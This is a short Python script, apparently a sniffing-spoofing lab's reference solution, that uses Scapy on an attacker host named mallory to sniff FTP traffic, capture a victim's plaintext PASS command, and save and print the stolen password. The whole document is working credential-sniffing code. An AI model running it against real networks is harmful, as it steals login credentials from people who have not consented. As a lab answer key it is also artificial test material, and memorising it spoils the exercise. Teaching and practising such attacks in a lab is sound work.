# The sniffing-spoofing lab's reference solution for the password, run on mallory: capture FTP
# traffic with Scapy until a login went by (hub mode shows alice's), keep it in a pcap, then read
# the pcap back and write the password that followed PASS.
from scapy.all import TCP, Raw, rdpcap, sniff, wrpcap

PCAP = "/root/ftp.pcap"


def is_pass(packet):
    return packet.haslayer(Raw) and packet[Raw].load.startswith(b"PASS ")


wrpcap(PCAP, sniff(iface="eth0", filter="tcp port 21", stop_filter=is_pass, timeout=30))
for packet in rdpcap(PCAP):
    if packet.haslayer(TCP) and packet[TCP].dport == 21 and is_pass(packet):
        password = packet[Raw].load[5:].decode().strip()
        with open("/root/password.txt", "w") as out:
            out.write(password + "\n")
        print(password)
        break
else:
    raise SystemExit("no PASS command in the capture")
